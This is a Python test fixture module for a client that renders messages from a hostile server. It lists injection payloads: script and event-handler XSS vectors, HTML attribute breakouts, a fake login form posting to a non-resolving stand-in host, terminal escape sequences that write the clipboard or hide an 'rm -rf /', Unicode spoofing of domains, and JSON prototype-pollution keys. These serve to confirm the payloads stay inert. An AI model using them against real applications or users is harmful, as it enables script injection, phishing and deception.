"""What a hostile server sends: payloads that must show as text and never take effect.

Those that run code add one to ``window.hostileRan``; those that load something ask for it at
``hostile.invalid``, a name that never resolves (RFC 2606). So a test can see whether any took effect.
"""

from __future__ import annotations

RAN = "window.hostileRan=(window.hostileRan||0)+1"
"""JavaScript that leaves its mark."""

AWAY = "https://hostile.invalid"
"""Where payloads try to load from or to send to."""

LONG_LINE = 200_000
"""Characters of the longest payload."""

_ESC, _BEL = "\x1b", "\x07"

_MARKUP = (
    f"<script>{RAN}</script>",
    f'<SCRIPT/x src="{AWAY}/a.js"></SCRIPT>',
    f'<script type="module">import "{AWAY}/module.js";{RAN}</script>',
    f'<img src="{AWAY}/a.png" width=1>',
    f'<img src="data:," onerror="{RAN}">',
    f'<img srcset="{AWAY}/b.png 1x" loading=eager onload="{RAN}">',
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RAN}"><circle r="9"/></svg>',
    f'<svg><animate attributeName=x dur=1ms onbegin="{RAN}"></animate></svg>',
    f'<svg><use href="{AWAY}/sprite.svg#a"/></svg>',
    f'<iframe srcdoc="<script>parent.{RAN.removeprefix("window.")}</script>"></iframe>',
    f'<iframe src="{AWAY}/frame" style="position:fixed;inset:0;z-index:2147483647"></iframe>',
    f'<object data="{AWAY}/a.swf"></object><embed src="{AWAY}/b.swf">',
    "<style>body{display:none!important}</style>",
    f'<style>@import "{AWAY}/a.css";*{{background:url({AWAY}/c.png)}}</style>',
    f'<link rel=stylesheet href="{AWAY}/b.css"><link rel=prefetch href="{AWAY}/next">',
    f'<meta http-equiv=refresh content="0;url={AWAY}/moved">',
    f'<base href="{AWAY}/base/">',
    f'<form action="{AWAY}/collect">Password <input type=password name=p><button>Log in</button></form>',
    f'<video autoplay src="{AWAY}/a.mp4" onerror="{RAN}"></video>',
    f'<details open ontoggle="{RAN}"><summary>more</summary></details>',
    f'<input autofocus onfocus="{RAN}">',
    f'<div contenteditable tabindex=0 onpointerenter="{RAN}" style="position:fixed;inset:0">cover</div>',
    f'<a href="javascript:{RAN}">open the report</a>',
    f'<a href="java\tscript:{RAN}">tab inside the scheme</a>',
    f'<a href="data:text/html,%3Cscript%3E1%3C/script%3E" ping="{AWAY}/ping">data link</a>',
    f"<template><img src=x onerror='{RAN}'></template><marquee onstart='{RAN}'>news</marquee>",
    f"<math><mi xlink:href='javascript:{RAN}'>x</mi></math>",
)

_BREAKOUTS = (
    f'"><img src=x onerror={RAN}>',
    f"'><img src=x onerror={RAN}>",
    f'" onmouseover="{RAN}" data-x="',
    f"` onmouseover=`{RAN}` x=`",
    f"</pre></code></td></tr></table></details></div><script>{RAN}</script>",
    f"</script><script>{RAN}</script>",
    f"</style></textarea></title></noscript><img src=x onerror={RAN}>",
    f"--><script>{RAN}</script><!--",
    f"]]><script>{RAN}</script>",
    f"&lt;script&gt;{RAN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RAN}&#62;",
    f"\\u003cscript\\u003e{RAN}\\u003c/script\\u003e",
    f"${{{RAN}}} {{{{{RAN}}}}} <%= 1 %> #{{1}}",
    "<b><i><u><table><tr><td><div><!-- never closed",
)

_FORMULAS_AND_MARKDOWN = (
    r"$\textcolor{red}{\text{typeset}}$ and $$\int_0^1 x\,dx$$",
    r"\(\frac{1}{2}\) \[\begin{matrix}1&2\end{matrix}\] \begin{equation}x\end{equation}",
    r"$\href{javascript:" + RAN + r"}{click}$ \def\x{\x\x}$\x$",
    f"# Heading\n**bold** [link](javascript:{RAN}) ![image]({AWAY}/md.png)\n\n```html\n<b>fence</b>\n```",
    "| a | b |\n|---|---|\n| 1 | 2 |\n\n- [ ] task\n\n> quote\n\n---",
)

_TERMINAL = (
    f"{_ESC}[2J{_ESC}[H{_ESC}[31mthe screen is cleared{_ESC}[0m",
    f"{_ESC}]0;title taken{_BEL}",
    f"{_ESC}]8;;{AWAY}/osc{_ESC}\\trusted.example{_ESC}]8;;{_ESC}\\",
    f"{_ESC}]52;c;aG9zdGlsZQ=={_BEL}",
    f"{_ESC}]1337;File=inline=1:AAAA{_BEL}",
    f"{_ESC}[8mhidden{_ESC}[28m{_ESC}[1A{_ESC}[2Kline above removed",
    f'{_ESC}P$q"p{_ESC}\\{_ESC}[6n{_ESC}[c',
    "\x9b31mC1 control sequence\x9b0m \x9d0;C1 title\x9c",
    "transfer of 1000000 refused\rtransfer of 10 accepted     ",
    "rm -rf /\b\b\b\b\b\b\b\bls      ",
    "bell\x07 form feed\x0c vertical tab\x0b shift out\x0e delete\x7f",
)

_UNICODE = (
    "account \u202e0001 morf\u202c to 2000",
    "\u2066isolate \u2067never \u2068closed \u200f\u061c",
    "pay\u200bpal\u200c.\u200dcom\u2060\ufeff",
    "раураl.com ⁄ ｇｏｏｇｌｅ.com",
    "before\x00after",
    "line\u2028separator\u2029paragraph\x85next line",
    "Z" + "\u0300\u0301\u0302\u0336" * 500,
    "\U000e0041\U000e0042tag characters \ufff9note\ufffabelow\ufffb",
    "not characters \ufffe \uffff \U0010ffff and \ufffd",
    "\ufdfd" * 200,
)

_JSON = (
    r'{"text": "\ud800", "key \udfff": "lone surrogates"}',
    '{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}',
    f'{{"<img src=x onerror={RAN}>": "<script>{RAN}</script>"}}',
    '{"same": 1, "same": 2, "number": 1e999, "big": ' + "9" * 5000 + "}",
    "[" * 20_000 + "]" * 20_000,
    '{"nan": NaN, "infinity": -Infinity}',
    '{"never": "closed',
)

_SIZES = (
    "x" * LONG_LINE,
    "<b>" * 20_000,
    "\n" * 20_000,
    "",
    " \t ",
)

PAYLOADS: tuple[str, ...] = (
    *_MARKUP,
    *_BREAKOUTS,
    *_FORMULAS_AND_MARKDOWN,
    *_TERMINAL,
    *_UNICODE,
    *_JSON,
    *_SIZES,
)
"""One message each; all of them are text that UTF-8 can encode."""
